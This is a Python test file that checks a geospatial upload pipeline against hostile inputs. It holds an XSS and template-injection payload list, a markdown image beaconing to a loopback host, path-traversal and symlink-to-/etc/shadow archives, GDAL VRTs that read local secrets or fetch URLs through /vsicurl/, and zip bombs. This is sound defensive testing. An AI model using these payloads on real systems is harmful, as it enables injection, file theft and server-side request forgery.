"""SECURITY.md 4.2, the catalogue: one test (or more) per case id, named ``test_<id>_...``.

Each test shows, where it can be shown cheaply, that the stack's default goes
wrong (``demo_default_*`` helpers run plain pyogrio/rasterio in a child process
*without* geo's GDAL hardening, or call pandas/folium/shapely directly), and
that our path gets it right. Hostile uploads go through
:func:`geo.io.ingest.ingest_upload`, the app's and the CLI's only way in; the
data-quality rules (E, S, C, G, T) run through :func:`geo.io.incidents.read_incidents`
in this process, which is the code the worker runs (``tests/test_ingest.py``
checks that both give identical results).

Every fixture is SYNTHETIC and built here from a few lines: event ids, notes
and actors are made up; coordinates are the OSM town points listed in
``tests/fixtures/incidents/README.md`` (Bamako 12.64932, -8.00034; Kayes
14.44341, -11.43793; Ségou 13.44153, -6.26815). Cases that need the running
app or a browser are in ``tests/test_security_browser.py``; the mapping of every
id to its test is ``docs/SECURITY-CASES.md``.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import socket
import sqlite3
import stat
import struct
import subprocess
import sys
import textwrap
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely

from geo.errors import InputFileError, ParameterError
from geo.io import containers
from geo.io import ingest as ingest_mod
from geo.io.containers import IngestLimits
from geo.io.incidents import combine_results, read_incidents
from geo.io.ingest import ingest_upload

REPO = Path(__file__).resolve().parent.parent
TODAY = date(2026, 1, 1)
BAMAKO = (-8.00034, 12.64932)
KAYES = (-11.43793, 14.44341)
SEGOU = (-6.26815, 13.44153)

#: Payload corpus (SECURITY.md 1.2, 4.2 R): each would run or leak if rendered raw. The
#: executed form of the template payloads differs from their literal text ("PWNED", "ZZZ").
PAYLOADS: dict[str, str] = {
    "jinja_expr": '{{ "PWN" ~ "ED" }} {{ 7*7 }}',
    "jinja_stmt": "{% for i in range(3) %}Z{% endfor %}",
    "jinja_raw": "{# c #}A{% raw %}",
    "js_template": "${(window.__pwned='tpl')}",
    "backtick": "`;window.__pwned='bt';`",
    "script_close": "</script><script>window.__pwned='script'</script>",
    "img_onerror": "<img src=x onerror=\"window.__pwned='img'\">",
    "md_image": "![x](http://127.0.0.1:9/beacon.png?who=analyst)",
    "rtl": "abc\u202edcba.exe",
    "french": "L’attaque {du} camp à Kéniéba: $5, `b`, <b>gras</b> \\",
}


# --------------------------------------------------------------------------- helpers


def csv_bytes(rows: list[dict[str, object]], *, encoding: str = "utf-8") -> bytes:
    """A user CSV (columns id, date, lat, lon, ... as given) from row dicts."""
    frame = pd.DataFrame(rows)
    return frame.to_csv(index=False, lineterminator="\n").encode(encoding)


def one_row_csv(**extra: object) -> bytes:
    """One synthetic event at Bamako, with any extra or overriding columns."""
    row = {"id": "T-1", "date": "2025-04-03", "lat": BAMAKO[1], "lon": BAMAKO[0]}
    row.update(extra)
    return csv_bytes([row])


def read(data: bytes, name: str = "upload.csv", **kwargs):
    return read_incidents(data, name=name, today=TODAY, **kwargs)


def ingest(data: bytes, name: str = "upload.csv", **kwargs):
    return ingest_upload(data, name=name, today=TODAY, **kwargs)


def make_zip(members: dict[str, bytes], *, level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    return buf.getvalue()


def feature_collection(geometries: list[object], **top: object) -> bytes:
    feats = [
        {"type": "Feature", "properties": {"id": f"G-{k}", "date": "2025-04-03"}, "geometry": g}
        for k, g in enumerate(geometries, start=1)
    ]
    return json.dumps({"type": "FeatureCollection", **top, "features": feats}).encode()


def point(lon: float, lat: float) -> dict[str, object]:
    return {"type": "Point", "coordinates": [lon, lat]}


def points_frame(n: int = 2, *, crs: object = 4326, **columns: object) -> gpd.GeoDataFrame:
    towns = [BAMAKO, KAYES, SEGOU]
    data = {"id": [f"V-{i}" for i in range(n)], "date": ["2025-04-03"] * n}
    data.update(columns)
    geoms = [shapely.Point(*towns[i % 3]) for i in range(n)]
    return gpd.GeoDataFrame(data, geometry=geoms, crs=4326).to_crs(crs)


def shapefile_zip(
    gdf: gpd.GeoDataFrame,
    tmp: Path,
    *,
    stem: str = "events",
    folder: str = "",
    drop: tuple[str, ...] = (),
    encoding: str | None = None,
) -> bytes:
    out = tmp / f"shp-{stem}-{len(list(tmp.iterdir()))}"
    out.mkdir()
    kwargs = {"encoding": encoding} if encoding else {}
    pyogrio.write_dataframe(gdf, out / f"{stem}.shp", **kwargs)
    members = {
        f"{folder}{p.name}": p.read_bytes()
        for p in sorted(out.iterdir())
        if p.suffix.lower() not in drop
    }
    return make_zip(members)


def gpkg_bytes(gdf: gpd.GeoDataFrame, tmp: Path, *, layer: str = "events") -> bytes:
    path = tmp / f"{layer}-{len(list(tmp.iterdir()))}.gpkg"
    pyogrio.write_dataframe(gdf, path, layer=layer, driver="GPKG")
    return path.read_bytes()


class Canary:
    """A loopback HTTP server on an ephemeral port that records every request."""

    def __init__(self, routes: dict[str, bytes] | None = None):
        hits: list[str] = []
        bodies = routes or {}

        class Handler(http.server.BaseHTTPRequestHandler):
            def _reply(self, with_body: bool) -> None:
                hits.append(f"{self.command} {self.path}")
                body = bodies.get(self.path.split("?")[0])
                self.send_response(200 if body is not None else 404)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                if with_body and body:
                    self.wfile.write(body)

            def do_GET(self) -> None:  # noqa: N802
                self._reply(True)

            def do_HEAD(self) -> None:  # noqa: N802
                self._reply(False)

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Canary:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@contextmanager
def tcp_canary() -> Iterator[tuple[int, list[object]]]:
    """A bare TCP listener on 127.0.0.1 that counts accepted connections."""
    accepted: list[object] = []
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.2)
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            accepted.append(1)
            conn.close()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    try:
        yield srv.getsockname()[1], accepted
    finally:
        stop.set()
        t.join(2)
        srv.close()


_WKT_4326 = (
    b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],'
    b'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
)


def demo_default(code: str, *, cwd: Path, extra_env: dict[str, str] | None = None) -> str:
    """Run ``code`` in a fresh Python *without* geo's GDAL hardening; return its stdout."""
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("GDAL", "CPL_", "PROJ_", "OGR_"))
        and k.lower() not in ("http_proxy", "https_proxy", "all_proxy", "no_proxy")
    }
    env.update(extra_env or {})
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    return done.stdout + done.stderr


# --------------------------------------------------------------------------- U: upload container


def test_u01_file_over_the_upload_limit_is_refused_with_size_and_limit(monkeypatch):
    from streamlit import config

    assert config.get_option("server.maxUploadSize") == 50  # ours; Streamlit's default is 200
    assert config._config_options_template["server.maxUploadSize"].default_val == 200
    monkeypatch.setattr(ingest_mod, "_run_worker", pytest.fail)  # refused before any parse
    data = b"id,date,lat,lon\n" + b"x" * (50 * 2**20)
    with pytest.raises(InputFileError, match=r"big\.csv is 50\.0 MiB; files up to 50 MiB"):
        ingest(data, "big.csv")


@pytest.mark.parametrize("name", ["evil.exe", "layer.vrt", "doc.kml", "data.xml", "x.tif"])
def test_u02_disallowed_extension_refused_listing_allowed_types(name):
    from ui.controls import UPLOAD_TYPES

    assert name.rsplit(".", 1)[1] not in UPLOAD_TYPES
    with pytest.raises(InputFileError, match=r"are not accepted; accepted: \.csv, \.geojson"):
        ingest(one_row_csv(), name)


_OGR_VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{src}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)


@pytest.mark.parametrize("name", ["x.geojson", "x.csv", "x.json", "x.gpkg"])
def test_u03_vrt_content_refused_whatever_the_extension(name):
    vrt = _OGR_VRT.format(src="CSV:/etc/hostname").encode()
    with pytest.raises(InputFileError, match=r"looks like XML or a GDAL VRT"):
        ingest(vrt, name)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.csv", "passwd.csv"),
        ("C:\\x\\..\\evil.csv", "evil.csv"),
        ("report\u202evsc.exe.csv", "reportvsc.exe.csv"),
        ("zero\u200bwidth\x07.csv", "zerowidth.csv"),
    ],
)
def test_u04_upload_name_is_only_a_cleaned_label(name, shown, tmp_path, monkeypatch):
    from geo.export.atomic import safe_export_name

    monkeypatch.chdir(tmp_path)
    result = ingest(one_row_csv(), name)
    assert result.report.file == shown
    assert result.incidents["source_file"].tolist() == [shown]
    assert list(tmp_path.iterdir()) == []  # nothing written under the user's name
    export_name = safe_export_name("tables", "csv", when=(TODAY, TODAY))
    assert export_name.startswith("sahel-risk-tables_2026-01-01_2026-01-01_")


def _symlink_member_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("events/link.csv")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/shadow")
    return buf.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param(make_zip({"../x.csv": b"a"}), "climbs out of the archive", id="dotdot"),
        pytest.param(make_zip({"/tmp/x.csv": b"a"}), "is an absolute path", id="absolute"),
        pytest.param(make_zip({"D:/x.csv": b"a"}), "is an absolute path", id="drive letter"),
        pytest.param(_symlink_member_zip(), "is a symbolic link", id="symlink"),
    ],
)
def test_u05_unsafe_member_names_refuse_the_archive_naming_the_member(data, reason):
    with pytest.raises(InputFileError, match=rf"member '.*' {reason}.*; the archive is refused"):
        ingest(data, "upload.zip")


def _bomb(total_mib: int) -> bytes:
    """A constant-row CSV zipped at the highest level (SYNTHETIC; ratio ~ 1000:1)."""
    buf = io.BytesIO()
    row = f"T-1,2025-04-03,{BAMAKO[1]},{BAMAKO[0]},{'same note ' * 6}\n".encode()
    chunk = row * (2**20 // len(row))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("bomb.csv", "w") as fh:
            fh.write(b"id,date,lat,lon,notes\n")
            for _ in range(total_mib):
                fh.write(chunk)
    return buf.getvalue()


def test_u06_zip_bomb_rejected_before_any_parse(monkeypatch):
    data = _bomb(120)
    assert len(data) < 2**20  # well under a megabyte, unpacking to 120 MiB
    monkeypatch.setattr(ingest_mod, "_run_worker", pytest.fail)
    with pytest.raises(InputFileError, match=r"unpacks \d+ times its size \(a zip bomb\?\)"):
        ingest(data, "bomb.zip")


def test_u06_declared_total_over_300_mib_rejected_from_the_directory(monkeypatch):
    data = bytearray(make_zip({"a.csv": one_row_csv()}))
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 24 : cd + 28] = struct.pack("<I", 400 * 2**20)  # declared uncompressed size
    monkeypatch.setattr(ingest_mod, "_run_worker", pytest.fail)
    with pytest.raises(InputFileError, match=r"would unpack to 400 MiB; at most 300 MiB"):
        ingest(bytes(data), "big.zip")


def test_u07_forged_small_size_stopped_while_unpacking():
    content = csv_bytes(
        [{"id": f"T-{i}", "date": "2025-04-03", "lat": 12.6, "lon": -8} for i in range(400)]
    )
    data = bytearray(make_zip({"events.csv": content}))
    forged = struct.pack("<I", 64)
    data[22:26] = forged  # local header
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 24 : cd + 28] = forged  # central directory
    with pytest.raises(InputFileError, match=r"member 'events.csv' (unpacks to more|cannot be)"):
        ingest(bytes(data), "liar.zip")


def test_u08_ten_thousand_members_refused_from_the_end_record(monkeypatch):
    data = make_zip({f"m{i}.txt": b"" for i in range(10_000)}, level=1)

    def no_zipfile(*args: object, **kwargs: object) -> None:
        raise AssertionError("ZipFile must not parse a 10,000-entry directory")

    monkeypatch.setattr(containers.zipfile, "ZipFile", no_zipfile)
    with pytest.raises(InputFileError, match=r"lists 10000 members .* at most 200 members"):
        ingest(data, "many.zip")


@pytest.mark.parametrize(
    ("members", "reason"),
    [
        pytest.param({"inner.zip": make_zip({"a.csv": b"a"})}, "archive inside", id="nested zip"),
        pytest.param({"d/" * 300 + "x.csv": b"a"}, "nested too deeply", id="300-deep path"),
    ],
)
def test_u08_nested_archives_and_deep_paths_refused(members, reason):
    with pytest.raises(InputFileError, match=reason):
        ingest(make_zip(members), "nested.zip")


def test_u09_two_shapefiles_listed_and_layer_chooses(tmp_path):
    a = zipfile.ZipFile(io.BytesIO(shapefile_zip(points_frame(2), tmp_path, stem="north")))
    b = zipfile.ZipFile(io.BytesIO(shapefile_zip(points_frame(1), tmp_path, stem="south")))
    both = make_zip(
        {**{i: a.read(i) for i in a.namelist()}, **{i: b.read(i) for i in b.namelist()}}
    )
    with pytest.raises(InputFileError, match=r"holds 2 shapefiles: 'north.shp', 'south.shp'"):
        ingest(both, "two.zip")
    assert ingest(both, "two.zip", layer="south").report.rows_kept == 1


def test_u10_shapefile_in_a_subfolder_is_found(tmp_path):
    data = shapefile_zip(points_frame(2), tmp_path, folder="export/2025/")
    result = ingest(data, "nested.zip")
    assert result.report.rows_kept == 2
    assert "shapefile 'export/2025/events.shp' read" in result.report.notes


def test_u11_macosx_junk_members_ignored(tmp_path):
    z = zipfile.ZipFile(io.BytesIO(shapefile_zip(points_frame(2), tmp_path)))
    members = {i: z.read(i) for i in z.namelist()}
    members["__MACOSX/._events.shp"] = b"\x00\x05\x16\x07junk"
    members["._events.dbf"] = b"junk"
    assert ingest(make_zip(members), "mac.zip").report.rows_kept == 2


@pytest.mark.parametrize(
    ("data", "message"),
    [
        pytest.param(b"", r"is empty \(0 bytes\)", id="0 bytes"),
        pytest.param(make_zip({"a.csv": one_row_csv()})[:-30], r"empty or corrupt zip", id="cut"),
        pytest.param(b"PK\x03\x04" + b"\x00" * 40, r"empty or corrupt zip", id="header only"),
    ],
)
def test_u12_empty_or_truncated_file_has_one_clear_error(data, message):
    with pytest.raises(InputFileError, match=message):
        ingest(data, "broken.zip" if data else "empty.csv")


def test_u13_same_file_twice_gives_the_same_rows_and_no_duplicates():
    data = csv_bytes(
        [
            {"id": f"T-{i}", "date": "2025-04-03", "lat": BAMAKO[1], "lon": BAMAKO[0]}
            for i in range(3)
        ]
    )
    first, second = ingest(data), ingest(data)
    pd.testing.assert_frame_equal(first.incidents, second.incidents)
    assert first.report == second.report
    with pytest.raises(ParameterError, match="same file name twice"):
        combine_results([first, second])
    again = combine_results([first, ingest(data, "copy.csv")])
    assert len(again.incidents) == 3 and again.report.n_rejected == 3  # the copy's rows


# -------------------------------------------------------------------- F: format, driver, network


def test_f01_geojson_crs_link_fetch_by_default_refused_by_us(tmp_path):
    with Canary({"/crs.prj": _WKT_4326}) as canary:
        crs = {"type": "link", "properties": {"href": f"{canary.url}/crs.prj", "type": "ogcwkt"}}
        data = feature_collection([point(*BAMAKO)], crs=crs)
        (tmp_path / "link.geojson").write_bytes(data)
        out = demo_default(
            "import pyogrio; print(pyogrio.read_info('link.geojson')['crs'])", cwd=tmp_path
        )
        assert any("/crs.prj" in h for h in canary.hits), f"default GDAL did not fetch: {out}"
        canary.hits.clear()
        with pytest.raises(InputFileError, match=r"has a 'crs' member .* RFC 7946"):
            ingest(data, "link.geojson")
        assert canary.hits == []


def test_f02_vrt_to_vsicurl_inside_zip_bytes(tmp_path):
    with Canary({"/remote.csv": b"x,y\n1,2\n"}) as canary:
        vrt = _OGR_VRT.format(src=f"/vsicurl/{canary.url}/remote.csv").encode()
        for member in ("layer.vrt", "layer.csv"):
            data = make_zip({member: vrt})
            (tmp_path / "up.zip").write_bytes(data)
            code = """
                import io, pyogrio
                try:
                    print(pyogrio.read_dataframe(io.BytesIO(open('up.zip','rb').read())))
                except Exception as exc:
                    print('error', exc)
            """
            out = demo_default(code, cwd=tmp_path)
            if member == "layer.vrt":
                assert canary.hits, f"default GDAL made no request: {out}"
            canary.hits.clear()
            with pytest.raises(InputFileError, match=r"VRT|not exactly one CSV"):
                ingest(data, "up.zip")
            assert canary.hits == []


def test_f03_vrt_reading_a_local_file(tmp_path):
    secret = tmp_path / "secrets.toml"
    secret.write_text("password_sha256,token\nTOPSECRET,42\n")
    vrt = (
        _OGR_VRT.format(src=f"CSV:{secret}")
        .replace("</SrcDataSource>", "</SrcDataSource><SrcLayer>secrets</SrcLayer>")
        .encode()
    )
    (tmp_path / "innocent.csv").write_bytes(vrt)
    out = demo_default(
        "import pyogrio; print(pyogrio.read_dataframe('innocent.csv').to_csv())", cwd=tmp_path
    )
    assert "TOPSECRET" in out  # the stack's default reads the file named inside
    for name in ("innocent.csv", "innocent.geojson"):
        with pytest.raises(InputFileError, match="looks like XML or a GDAL VRT") as err:
            ingest(vrt, name)
        assert "TOPSECRET" not in str(err.value)


def test_f04_raster_vrt_named_tif_fetches_by_default_not_here(tmp_path):
    import rasterio
    from rasterio.errors import RasterioIOError

    with Canary() as canary:
        vrt = (
            '<VRTDataset rasterXSize="4" rasterYSize="4"><VRTRasterBand dataType="Byte" band="1">'
            f"<SimpleSource><SourceFilename>/vsicurl/{canary.url}/r.tif</SourceFilename>"
            "<SourceBand>1</SourceBand></SimpleSource></VRTRasterBand></VRTDataset>"
        ).encode()
        (tmp_path / "r.tif").write_bytes(vrt)
        code = """
            import rasterio
            with rasterio.MemoryFile(open('r.tif','rb').read(), ext='.tif') as mf:
                try:
                    with mf.open() as ds:
                        print(ds.driver, ds.read(1).sum())
                except Exception as exc:
                    print('error', exc)
        """
        out = demo_default(code, cwd=tmp_path)
        assert canary.hits, f"default rasterio made no request: {out}"
        canary.hits.clear()
        with rasterio.MemoryFile(vrt, ext=".tif") as mf, pytest.raises(RasterioIOError):
            mf.open()
        assert canary.hits == []


def test_f05_user_strings_never_reach_gdal_as_paths():
    with Canary({"/x.csv": one_row_csv()}) as canary:
        url = f"{canary.url}/x.csv"
        result = ingest(one_row_csv(), url)  # the name is a label, never opened
        assert result.report.file == "x.csv" and result.report.rows_kept == 1
        for text in (url, f"/vsicurl/{url}", "/vsizip//etc/x.zip", "PG:dbname=x", "WFS:" + url):
            with pytest.raises(ParameterError, match="data must be bytes"):
                read_incidents(text, name="typed.csv")  # a str is refused, bytes or Path only
            with pytest.raises(ParameterError, match="data must be bytes"):
                ingest_upload(text, name="typed.csv")
        with pytest.raises(Exception):  # noqa: B017 (GDAL's own refusal, any error type)
            pyogrio.read_info(f"/vsicurl/{url}")  # belt and braces: /vsicurl/ is off here
        assert canary.hits == []


def test_f05_cli_refuses_urls_and_gdal_prefixes(capsys):
    from geo.cli import main

    for text in ("http://127.0.0.1:9/x.csv", "/vsicurl/http://127.0.0.1:9/x", "PG:dbname=x"):
        assert main(["validate", text]) == 2
    assert "127.0.0.1:9" not in capsys.readouterr().out.replace("http://127.0.0.1:9/x.csv", "")


def test_f06_driver_allowlist_holds_at_start_up(tmp_path):
    import rasterio

    from geo.io import _gdal_env

    _gdal_env.check_drivers()
    assert set(pyogrio.list_drivers()) <= _gdal_env.ALLOWED_VECTOR_DRIVERS
    with rasterio.Env() as env:
        assert (
            set(env.drivers())
            <= _gdal_env.ALLOWED_VECTOR_DRIVERS | _gdal_env.ALLOWED_RASTER_DRIVERS
        )
    out = demo_default("import pyogrio; print(len(pyogrio.list_drivers()))", cwd=tmp_path)
    assert int(out.split()[-1]) > 40  # the wheel's default set


def test_f08_hostile_geopackages(tmp_path):
    base = gpkg_bytes(points_frame(2), tmp_path)
    # A trigger and an extra table: read-only parsing never fires it.
    path = tmp_path / "trigger.gpkg"
    path.write_bytes(base)
    with sqlite3.connect(path) as con:
        con.execute("CREATE TABLE audit (x TEXT)")
        con.execute(
            "CREATE TRIGGER t AFTER UPDATE ON events BEGIN INSERT INTO audit VALUES ('fired'); END"
        )
    assert ingest(path.read_bytes(), "trigger.gpkg").report.rows_kept == 2
    # Plain SQLite, and a view registered as a feature layer.
    plain = tmp_path / "plain.sqlite"
    with sqlite3.connect(plain) as con:
        con.execute("CREATE TABLE t (a)")
    with pytest.raises(InputFileError, match="an SQLite database but not a GeoPackage"):
        ingest(plain.read_bytes(), "plain.gpkg")
    view = tmp_path / "view.gpkg"
    view.write_bytes(base)
    with sqlite3.connect(view) as con:
        con.execute("CREATE VIEW v AS SELECT * FROM events")
        con.execute(
            "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
            "VALUES ('v', 'features', 'v', 4326)"
        )
    with pytest.raises(InputFileError, match="SQL views, which are refused"):
        ingest(view.read_bytes(), "view.gpkg", layer="events")
    # A header claiming 2**31 pages: a clear error or a correct read, never a crash.
    huge = bytearray(base)
    huge[28:32] = struct.pack(">I", 0x7FFFFFFF)
    huge[92:96] = huge[24:28]  # make SQLite trust the in-header size
    try:
        result = ingest(bytes(huge), "huge.gpkg")
    except InputFileError as exc:
        assert str(exc).startswith("huge.gpkg")
    else:
        assert result.report.rows_kept == 2


def test_f09_huge_line_deep_nesting_and_duplicate_keys():
    with pytest.raises(InputFileError, match=r"is 100\.0 MiB; files up to 50 MiB"):
        ingest(
            b'{"type":"FeatureCollection","features":[' + b" " * (100 * 2**20) + b"]}", "x.geojson"
        )
    deep = b'{"type":"FeatureCollection","features":' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    with pytest.raises(InputFileError, match=r"nested too deeply|not valid JSON|not a GeoJSON"):
        ingest(deep, "deep.geojson")
    # Duplicate keys: one reading only (Python's: the last wins), re-serialised for GDAL.
    dup = (
        b'{"type": "FeatureCollection", "features": [], ' + feature_collection([point(*BAMAKO)])[1:]
    )
    assert len(json.loads(dup)["features"]) == 1
    assert ingest(dup, "dup.geojson").report.rows_in == 1


# F07 (fuzz smoke) is tests/test_fuzz.py; F10 (ingestion with the network namespace removed,
# every valid fixture) is tests/test_ingest.py::test_f10_worker_reads_every_fixture_like_the_reader.


# --------------------------------------------------------------------------- P: process faults


def test_p01_worker_segfault_is_a_message_and_the_app_survives(worker_fault):
    worker_fault("segv")
    with pytest.raises(
        InputFileError, match=r"could not be parsed \(the reader crashed with signal SIGSEGV\)"
    ):
        ingest(one_row_csv(), "crash.csv")
    worker_fault(None)
    assert ingest(one_row_csv(), "next.csv").report.rows_kept == 1  # still serving


def test_p02_worker_cpu_loop_is_killed_at_its_limit(worker_fault):
    worker_fault("loop")
    with pytest.raises(
        InputFileError, match=r"could not be parsed \(the reader used more than 2 s of CPU"
    ):
        ingest(one_row_csv(), "loop.csv", limits=IngestLimits(cpu_s=2, wall_s=60))


def test_p02_worker_wall_clock_timeout(worker_fault):
    worker_fault("sleep:600")
    with pytest.raises(InputFileError, match=r"could not be parsed \(it took longer than 3 s\)"):
        ingest(one_row_csv(), "slow.csv", limits=IngestLimits(wall_s=3))


def test_p03_worker_over_its_address_space_is_a_handled_memory_error(worker_fault):
    worker_fault("alloc")
    with pytest.raises(InputFileError, match=r"could not be parsed \(it needs more memory"):
        ingest(one_row_csv(), "greedy.csv", limits=IngestLimits(memory_bytes=900 * 2**20))


def test_p04_worker_cannot_reach_a_loopback_canary(worker_fault):
    with tcp_canary() as (port, accepted):
        with socket.create_connection(("127.0.0.1", port), timeout=3):
            pass  # reachable from this (unsandboxed) process
        deadline = 50
        while not accepted and deadline:
            threading.Event().wait(0.05)
            deadline -= 1
        assert len(accepted) == 1
        worker_fault(f"connect:{port}")
        with pytest.raises(InputFileError, match=r"fault hook: connect failed"):
            ingest(one_row_csv(), "net.csv")
        assert len(accepted) == 1  # nothing new from the worker
    assert ingest_mod.network_isolation(), "no network namespace: unshare --net is unavailable"


def test_p05_stray_gdal_settings_are_removed(tmp_path, monkeypatch):
    env = {**os.environ, "SHAPE_RESTORE_SHX": "YES", "OGR_GEOMETRY_ACCEPT_UNCLOSED_RING": "NO"}
    names = "'SHAPE_RESTORE_SHX', 'OGR_GEOMETRY_ACCEPT_UNCLOSED_RING'"
    code = f"import geo, os; print(*[os.environ.get(n) for n in ({names})])"
    done = subprocess.run(
        [sys.executable, "-c", code], cwd=REPO, env=env, capture_output=True, text=True, check=True
    )
    assert done.stdout.split() == ["None", "None"]
    monkeypatch.setenv("SHAPE_RESTORE_SHX", "YES")
    assert "SHAPE_RESTORE_SHX" not in ingest_mod._worker_env(str(tmp_path))
    data = shapefile_zip(points_frame(2), tmp_path, drop=(".shx",))
    with pytest.raises(InputFileError, match=r"has no events\.shx \(the index\)"):
        ingest(data, "noshx.zip")


# --------------------------------------------------------------------------- E: encoding and text

FIX = REPO / "tests" / "fixtures" / "incidents"


def test_e01_latin1_csv_read_exactly():
    raw = (FIX / "latin1.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        pd.read_csv(io.BytesIO(raw))  # the stack's default
    result = read(raw, "latin1.csv")
    assert {"Ségou", "Kéniéba"} <= set(result.incidents["location"])
    assert any(n.startswith("encoding: Latin-1") for n in result.report.notes)


def test_e02_cp1252_preferred_over_latin1():
    raw = (FIX / "cp1252.csv").read_bytes()
    assert "\x92" in raw.decode("latin-1")  # an invisible C1 control character
    result = read(raw, "cp1252.csv")
    assert any("l’attaque" in n for n in result.incidents["notes"])
    assert any("Windows-1252 (cp1252)" in n for n in result.report.notes)


def test_e03_utf8_bom_header_exact():
    raw = (FIX / "utf8_bom.csv").read_bytes()
    import csv as csv_module

    naive = next(csv_module.reader(io.StringIO(raw.decode("utf-8"))))
    assert naive[0] == "\ufeffevent_id_cnty"  # decoded as plain UTF-8, the header is wrong
    assert read(raw, "bom.csv").report.format == "acled_csv"


def _places_frame() -> gpd.GeoDataFrame:
    return points_frame(2, location=["Ségou", "Kéniéba"])


def test_e04_utf8_dbf_without_cpg_no_mojibake(tmp_path):
    data = shapefile_zip(_places_frame(), tmp_path, drop=(".cpg",), encoding="UTF-8")
    folder = tmp_path / "plain"
    folder.mkdir()
    zipfile.ZipFile(io.BytesIO(data)).extractall(folder)
    naive = pyogrio.read_dataframe(folder / "events.shp")
    assert naive["location"].tolist() == ["SÃ©gou", "KÃ©niÃ©ba"]  # the stack's default
    result = read(data, "utf8.zip")
    assert result.incidents["location"].tolist() == ["Ségou", "Kéniéba"]
    assert any("valid UTF-8, read as UTF-8" in n for n in result.report.notes)


def test_e05_latin1_dbf_without_cpg_exact(tmp_path):
    data = shapefile_zip(_places_frame(), tmp_path, drop=(".cpg",), encoding="cp1252")
    assert read(data, "latin1.zip").incidents["location"].tolist() == ["Ségou", "Kéniéba"]


def test_e06_mixed_encodings_give_per_row_issues():
    raw = b"id,date,lat,lon,location\n"
    raw += f"A,2025-04-03,{BAMAKO[1]},{BAMAKO[0]},Ségou\n".encode()
    raw += f"B,2025-04-03,{BAMAKO[1]},{BAMAKO[0]},Ségou\n".encode("latin-1")
    result = read(raw, "mixed.csv")
    assert result.incidents["location"].tolist() == ["Ségou", "Ségou"]
    (issue,) = result.report.issues
    assert (issue.row, issue.action) == (3, "flagged") and "cp1252" in issue.reason


def test_e07_exports_are_utf8_and_no_lossy_shapefile_is_offered(tmp_path):
    from geo.export.atomic import EXPORT_SUFFIXES
    from geo.export.tabular import write_table_atomic

    frame = points_frame(2).to_crs(32629)
    frame["location"] = ["Ségou", "Kéniéba"]
    with pytest.raises(pyogrio.errors.FieldError):
        pyogrio.write_dataframe(frame, tmp_path / "x.shp", encoding="latin-1")  # default
    assert ".shp" not in EXPORT_SUFFIXES
    ours = points_frame(2, location=["Ségou", "Kéniéba"])
    csv_path = write_table_atomic(ours, tmp_path / "t.csv")
    assert "Kéniéba" in csv_path.read_bytes().decode("utf-8-sig")
    gpkg = write_table_atomic(ours, tmp_path / "t.gpkg")
    assert pyogrio.read_dataframe(gpkg)["location"].tolist() == ["Ségou", "Kéniéba"]


def test_e08_nfc_and_nfd_are_one_text_for_search_and_dedupe():
    nfc, nfd = "Kéniéba", "Ke\u0301nie\u0301ba"
    rows = [
        {
            "id": f"{nfc}-1",
            "date": "2025-04-03",
            "lat": 12.84072,
            "lon": -11.23217,
            "location": nfd,
        },
        {
            "id": f"{nfd}-1",
            "date": "2025-04-04",
            "lat": 12.84072,
            "lon": -11.23217,
            "location": nfc,
        },
    ]
    result = read(csv_bytes(rows), "nfd.csv")
    assert result.incidents["location"].tolist() == [nfc]
    assert [i.reason.startswith("repeats the event id") for i in result.report.issues] == [True]


def test_e09_control_bidi_and_zero_width_text_is_inert():
    from layers.safe import safe_text

    note = "ok\u202eevil\u200b\x07\x1b[31m"
    result = read(one_row_csv(notes=note), "a\u202etxt.csv")
    assert result.report.file == "atxt.csv"
    assert result.incidents["notes"].iat[0] == note  # data kept as given
    shown = safe_text(note)
    assert "\u202e" not in shown and "\x07" not in shown and "\x1b" not in shown
    bad = read(one_row_csv(lat=f"12.6{chr(0x202E)}"), "b.csv").report.issues[0].to_line()
    assert "\\u202e" in bad and "\u202e" not in bad  # messages quote with repr


# --------------------------------------------------------------------------- S: schema


def test_s01_missing_latitude_names_found_columns_and_aliases():
    with pytest.raises(InputFileError) as err:
        read(b"id,date,lon,place\nT-1,2025-04-03,-8,Bamako\n", "nolat.csv")
    message = str(err.value)
    assert "no latitude column; found columns: 'id', 'date', 'lon', 'place'" in message
    assert "latitude: latitude, lat, y" in message


